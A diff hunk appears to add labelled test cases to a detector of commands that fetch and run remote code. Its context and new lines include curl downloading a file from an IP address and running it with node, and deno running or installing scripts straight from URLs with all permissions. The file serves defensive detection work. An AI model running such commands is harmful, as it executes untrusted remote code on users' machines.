@@ -317,3 +317,9 @@ python3 - payload
 #@ pos a download named with and without ./
 curl -so x https://203.0.113.11/x
 node ./x
+#@ pos deno runs a script from a URL
+deno run -A https://deno.land/x/tool@1.0/cli.ts
+deno install -g -A -n tool "https://example.com/cli.ts"
+#@ neg deno runs a local script
+deno run --allow-read --location=https://example.com scripts/check.ts
+deno test --allow-read tests/
